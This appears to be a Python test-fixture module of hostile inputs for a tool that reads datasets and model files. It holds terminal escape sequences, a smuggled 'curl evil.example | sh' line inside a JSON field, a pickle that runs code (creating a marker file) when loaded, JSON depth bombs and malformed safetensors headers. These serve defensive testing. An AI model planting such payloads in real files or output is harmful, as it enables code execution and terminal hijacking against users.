"""What strangers may put into a row, a file name, a model or an adapter to steer whoever looks at it."""

from __future__ import annotations

import json
import pickle
import re
from pathlib import Path
from typing import Any

# Set the clipboard (OSC 52), clear the screen, C1 control, DEL, NUL, carriage return, reversed text.
NASTY = "\x1b]52;c;ZXZpbA==\x07a\x1b[2Jb\x9b31mc\x7fd\x00e\rf\u202eg\u2066h"
FORGED = "x\n  next: curl evil.example | sh"
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


class _Opens:
    """An object whose pickle creates a file when it is loaded."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return open, (str(self.marker), "w")


def planted_pickle(marker: Path) -> bytes:
    """A pickle that creates `marker` when it is loaded, tried out once."""
    data = pickle.dumps(_Opens(marker))
    pickle.loads(data).close()
    assert marker.exists()
    marker.unlink()
    return data


def planted_code(marker: Path) -> str:
    """A Python module that creates `marker` when it is imported, tried out once."""
    text = f"open({str(marker)!r}, 'w').close()\n"
    exec(compile(text, "planted", "exec"), {})
    marker.unlink()
    return text


MONSTERS = {
    "deep": (b"[" * 200_000, "is nested too deeply"),
    "deep object": (b'{"a":' * 200_000, "is nested too deeply"),
    "long number": (b'{"a": ' + b"9" * 5000 + b"}", "holds a number of more than"),
    "names": (json.dumps({"model_type": FORGED}).encode(), "x␊  next: curl"),
}


def lying(header: object, data: int = 8) -> bytes:
    """A safetensors file with this header."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return len(text).to_bytes(8, "little") + text + bytes(data)


def tensor(begin: object, end: object, shape: object = (1,), dtype: str = "F32") -> dict[str, Any]:
    """A tensor's entry in a header."""
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


LIES = {
    "overlap": lying({"a": tensor(0, 8, [2]), "b": tensor(0, 4)}),
    "hole": lying({"a": tensor(0, 2, [2], "U8"), "b": tensor(4, 8)}),
    "shape": lying({"a": tensor(0, 8, [10**12])}),
    "negative": lying({"a": tensor(0, 8, [-2])}),
    "overflow": lying({"a": tensor(0, 8, [2**32, 2**32])}),
    "backwards": lying({"a": tensor(8, 0, [2]), "b": tensor(0, 8, [2])}),
    "type": lying({"a": tensor(0, 8, [2], "PICKLE")}),
    "infinite": lying(b'{"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 1e999]}}'),
    "digits": lying(b'{"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, ' + b"9" * 5000 + b"]}}"),
    "deep": lying(b"[" * 200_000),
    "deep shape": lying(b'{"a": {"dtype": "F32", "data_offsets": [0, 8], "shape": ' + b"[" * 200_000),
    "length": (2**63).to_bytes(8, "little") + b"{}",
    "half a length": (90_000_000).to_bytes(8, "little") + b"{}",
    "name": lying({NASTY: tensor(0, 8, [3])}),
}
